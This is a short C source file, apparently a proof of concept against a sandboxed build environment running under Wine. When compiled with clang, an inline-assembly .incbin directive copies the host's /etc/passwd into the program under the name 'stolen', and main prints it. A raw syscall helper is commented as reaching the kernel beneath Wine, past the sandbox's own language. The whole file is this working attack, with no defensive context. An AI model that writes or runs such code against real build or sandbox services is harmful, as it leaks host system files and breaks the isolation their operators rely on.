/* Puts a file of the host into its own program. */
#include <windows.h>
#include <stdio.h>

#ifdef __clang__
/* Only a real compiler sees this: a call to the kernel below Wine, past everything that the lab language has. */
static long long kernel(long long n, long long a, long long b, long long c)
{
	long long r;
	__asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return r;
}
#endif

#ifdef __clang__
__asm__(".globl stolen\nstolen: .incbin \"/etc/passwd\"\n.byte 0\n");
extern char stolen[];
#endif

int main(void)
{
#ifdef __clang__
	printf("%s\n", stolen);
#endif
	return 0;
}
